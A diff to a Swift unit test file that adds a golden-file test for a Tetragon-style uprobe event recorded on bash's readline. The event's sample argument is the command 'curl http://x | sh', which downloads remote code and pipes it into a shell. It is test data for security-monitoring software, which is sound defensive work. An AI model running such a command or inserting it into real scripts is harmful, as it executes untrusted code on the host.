@@ -76,6 +76,16 @@ final class EventJSONTests: XCTestCase {
         try check(.hook(lsm), golden: "process_lsm.json")
     }
 
+    /// Tetragon's ProcessUprobe: path and symbol, then policy_name, message, args, tags, action.
+    func testProcessUprobeGolden() throws {
+        let (p, parent) = Self.sample()
+        let e = HookEvent(family: .uprobe, process: p, parent: parent, functionName: "readline", path: "/bin/bash",
+                          args: [HookArgument(.string("curl http://x | sh"))], action: "KPROBE_ACTION_POST", policyName: "bash-readline",
+                          message: "interactive command", tags: ["shell"], timeNs: 1_700_000_000_123_456_789)
+        XCTAssertEqual(AgentEvent.hook(e).eventType, "PROCESS_UPROBE")
+        try check(.hook(e), golden: "process_uprobe.json")
+    }
+
     func testFieldFiltersExcludeAndInclude() {
         let s = Self.sample()
         let event = AgentEvent.exec(process: s.process, parent: s.parent, ancestors: [], timeNs: 0)
